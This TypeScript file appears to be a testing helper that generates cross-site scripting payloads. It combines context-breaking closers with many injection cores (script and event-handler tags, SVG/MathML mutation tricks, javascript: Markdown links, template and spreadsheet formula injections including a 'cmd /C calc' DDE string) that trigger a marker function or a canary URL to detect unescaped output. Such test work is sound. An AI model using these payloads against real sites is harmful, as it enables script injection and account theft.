// Texts that try to run a script wherever somebody forgot to escape them. Each calls `__hit` with its number, or
// asks the canary for something. Written for the contexts there are: HTML, attributes, addresses, Markdown,
// islands of data, SVG, feeds, tables and mails.

/** What closes the context that a text may stand in. */
const closers = [
  '',
  '">',
  "'>",
  '`>',
  '--></style></script>',
  '</title></textarea></noscript>',
  ']]></description></item>',
  '</text></svg>',
  '\u202e\u2066',
  '\u0000\u2028',
  '</p></li></td></select></template>',
];

/** Markup that runs `hit`, or asks `canary`, in a browser that takes it for markup. */
function cores(hit: string, canary: string): string[] {
  return [
    `<script>${hit}</script>`,
    `<ScRiPt\n>${hit}</sCrIpT\n>`,
    `<script src="${canary}"></script>`,
    `<script type="application/json">{}</script><script>${hit}</script>`,
    `<img src=x onerror=${hit}>`,
    `<img src=x:x onerror\n=\t"${hit}">`,
    `<img/src/onerror=${hit}>`,
    `<svg onload=${hit}>`,
    `<svg/onload=${hit}//`,
    `<svg><script>${hit}</script></svg>`,
    `<svg><script href="data:,${hit}"/></svg>`,
    `<svg><animate onbegin=${hit} attributeName=x dur=1s></svg>`,
    `<svg><a xlink:href="javascript:${hit}"><text y=20>x</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${hit}'/></svg>#x"></svg>`,
    `<svg><style><img src="</style><img src=x onerror=${hit}>"></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${hit}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${hit}>`,
    `<noscript><p title="</noscript><img src=x onerror=${hit}>"></noscript>`,
    `<select><style></select><img src=x onerror=${hit}></style>`,
    `<xmp><p title="</xmp><img src=x onerror=${hit}>"></xmp>`,
    `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
    `<iframe src="javascript:parent.${hit}"></iframe>`,
    `<object data="javascript:${hit}"></object><embed src="javascript:${hit}">`,
    `<details open ontoggle=${hit}>x</details>`,
    `<input autofocus onfocus=${hit}>`,
    `<video><source onerror=${hit}></video><audio src onerror=${hit}>`,
    `<body onload=${hit} onpageshow=${hit}>`,
    `<meta http-equiv="refresh" content="0;url=javascript:${hit}">`,
    `<base href="${canary}"><link rel=stylesheet href="${canary}">`,
    `<style>@import url(${canary});*{background:url(${canary})}</style>`,
    `<form action="${canary}"><button autofocus onfocus=${hit}>x</button></form>`,
    `<a href="javascript:${hit}" autofocus onfocus=${hit}>x</a>`,
    `<p style="animation-name:x" onanimationstart=${hit} onpointerover=${hit}>x</p>`,
    `<div popover id=x onbeforetoggle=${hit}>x</div><button popovertarget=x>x</button>`,
    `<template shadowrootmode=open><img src=x onerror=${hit}></template>`,
    `[x](javascript:${hit})`,
    `[x](java\tscript:${hit}) [x](&#106;avascript&colon;${hit}) [x]( \u0001javascript:${hit})`,
    `[x](data:text/html,<script>${hit}</script>) [x](vbscript:${hit})`,
    `[x][r]\n\n[r]: javascript:${hit} "x"`,
    `![x](x"onerror="${hit}) ![x](x 'y" onerror="${hit}')`,
    `<javascript:${hit}> <https://x.test/" onmouseover="${hit}>`,
    `\`\`\`"><script>${hit}</script>\n<img src=x onerror=${hit}>\n\`\`\``,
    `\${${hit}} {{constructor.constructor('${hit}')()}} <%= ${hit} %> #{${hit}}`,
    `\\";${hit};// \\u0022;${hit};// ';${hit};// \`;${hit};//`,
    `javascript:${hit}`,
    `=HYPERLINK("${canary}","x")`,
    `@SUM(1+1)*cmd|' /C calc'!A0`,
    `&lt;script&gt;${hit}&lt;/script&gt; &#x3c;img src=x onerror=${hit}&#x3e;`,
    `<%00script>${hit}</script> <\u0000img src=x onerror=${hit}>`,
    `+ADw-script+AD4-${hit}+ADw-/script+AD4-`,
    `{"__proto__":{"innerHTML":"<img src=x onerror=${hit}>"}}`,
  ];
}

export interface Payload {
  number: number;
  text: string;
}

/** Up to `count` payloads, spread over all closers and cores; all there are without. */
export function payloads(canaryUrl: string, count = Infinity): Payload[] {
  const kinds = cores('', '').length;
  const all = closers.flatMap((closer, row) =>
    Array.from({ length: kinds }, (_, column) => {
      const number = row * kinds + column;
      const core = cores(`__hit(${number})`, `${canaryUrl}/${number}`)[column] ?? '';
      return { number, text: closer + core };
    }),
  );
  const step = Math.max(1, Math.floor(all.length / count));
  return all.filter((_, index) => index % step === 0).slice(0, count);
}
